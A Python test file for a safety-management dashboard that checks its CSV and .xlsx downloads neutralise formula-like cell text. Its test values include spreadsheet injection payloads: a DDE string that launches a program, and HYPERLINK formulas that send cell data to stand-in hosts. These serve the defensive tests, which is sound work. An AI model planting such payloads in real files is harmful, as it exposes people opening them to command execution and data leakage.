"""Formulas in downloads (issue #13 item 7): a cell whose text starts with = + - @ (or a tab / carriage return)
is neutralised in every file a user can download, by the one rule in dashboard/export.py. The files are
opened back: a CSV cell carries Excel's leading apostrophe; an .xlsx cell keeps its text exactly and carries
Excel's quote prefix (what the apostrophe typed in Excel sets), so it is text even when edited.

The pages' own downloads are checked too: the store gets formula-like text in its free-text columns, every
page's deferred downloads are built as a click would, and every .xlsx / .csv among them is read back."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

import apptest
from apptest import capture_downloads, open_page

from dashboard import export, ingest

TRIGGERS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1,"点我")']
HARMLESS = ["安康市某公司", "1-2号楼", "a=b", " =1", "", "'已带撇号"]


@pytest.mark.parametrize("value", TRIGGERS)
def test_formula_like_text_is_recognised(value):
    assert export.formula_like(value)
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, None, 3, -3.5, pd.NaT])
def test_other_values_are_left_alone(value):
    assert not export.formula_like(value)
    assert export.neutralise(value) is value


COLUMNS = [export.Column("text", "内容"), export.Column("n", "数量")]


def _frame(values):
    return pd.DataFrame({"text": values, "n": range(len(values))})


def _shown(value):
    """A text cell as Excel shows it (openpyxl leaves OOXML's _xHHHH_ escapes, e.g. _x000D_ for CR, undecoded)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def xlsx_problems(data: bytes) -> tuple[int, list[str]]:
    """(formula-like text cells seen, those without the quote prefix) over every sheet of an .xlsx."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen, bare = 0, []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bare.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}")
                elif export.formula_like(_shown(cell.value)):
                    seen += 1
                    if not cell.quotePrefix:
                        bare.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return seen, bare


def csv_problems(data: bytes) -> tuple[int, list[str]]:
    """(apostrophe-neutralised cells seen, cells still starting like a formula) in a CSV download."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    return (sum(c[:1] == "'" and export.formula_like(c[1:]) for c in cells),
            [c for c in cells if export.formula_like(c)])


def test_xlsx_table_keeps_the_text_and_sets_the_quote_prefix():
    data = export.xlsx_table(_frame(TRIGGERS + HARMLESS), COLUMNS, title="隐患台账", made_at=pd.Timestamp("2021-05-03"))
    seen, bare = xlsx_problems(data)
    assert seen == len(TRIGGERS) and not bare
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    texts = {_shown(c.value): c.quotePrefix for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert {t for t in TRIGGERS if t in texts} == set(TRIGGERS)  # kept exactly, no apostrophe added
    assert not any(texts[h] for h in HARMLESS if h)


def test_csv_bytes_neutralises_with_an_apostrophe():
    seen, bare = csv_problems(export.csv_bytes(_frame(TRIGGERS + HARMLESS), COLUMNS))
    assert seen == len(TRIGGERS) and not bare


def test_the_refusal_table_csv_neutralises_the_refused_cells():
    errors = ingest.error_frame([(2, "隐患描述", value, "单元格是公式") for value in TRIGGERS])
    seen, bare = csv_problems(ingest.errors_csv(errors))
    assert seen == len(TRIGGERS) and not bare


def test_the_import_template_has_no_bare_formula_text():
    fields = [ingest.Field("a", "名称", example="=1+1"), ingest.Field("b", "数量", ingest.NUMBER, example=-3)]
    book = openpyxl.load_workbook(io.BytesIO(ingest.template_xlsx(fields, title="说明")))
    assert book["数据"]["A2"].value == "=1+1" and book["数据"]["A2"].data_type == "s"


# -- every page's downloads, on a store holding formula-like text --------------------------------------------
app_db = apptest.app_db

FORMULA_COLUMNS = {
    "hazards": ("enterprise", "location", "description", "measures", "resp_person"),
    "fire_units": ("name", "description", "resp_person", "interim_measures"),
    "fire_incidents": ("name", "address"),
    "duty_reports": ("leader", "details", "key_matters"),
    "incidents": ("place", "description"),
    "warnings": ("kind", "content"),
    "groups": ("leader",),
    "tasks": ("note", "coop_depts"),
}
# page -> whether its spreadsheets carry user text (the ranking and the fire statistics hold figures only)
PAGES = {"app_pages/hazards.py": True, "app_pages/fire_units.py": True, "app_pages/duty.py": True,
         "app_pages/groups.py": True, "app_pages/tasks.py": True, "app_pages/ranking.py": False,
         "app_pages/fires.py": False}


@pytest.fixture
def formula_db(app_db):
    for table, columns in FORMULA_COLUMNS.items():
        for index, column in enumerate(columns):
            prefix = ["=HYPERLINK(\"http://elsewhere.example\",\"点我\")", "+1+", "-1-", "@SUM(1)", "\t=1"][index % 5]
            apptest.sql(app_db, f"UPDATE {table} SET {column} = ? || {column} WHERE {column} IS NOT NULL", [prefix])
    return app_db


@pytest.mark.parametrize("page", list(PAGES), ids=lambda p: p.split("/")[-1][:-3])
def test_every_download_of_every_page_is_neutralised(formula_db, monkeypatch, page):
    builders = capture_downloads(monkeypatch)
    open_page(page)
    assert builders, f"{page} offers no download"
    checked = 0
    for build in builders:
        data = build()
        if data.startswith(b"\xef\xbb\xbf"):
            seen, bare = csv_problems(data)
        elif data.startswith(b"PK") and "xl/workbook.xml" in zipfile.ZipFile(io.BytesIO(data)).namelist():
            seen, bare = xlsx_problems(data)
        else:
            continue  # Word: no formulas
        assert not bare, bare
        checked += seen
    assert bool(checked) == PAGES[page], f"{page}: {checked} formula-like cells reached its spreadsheets"
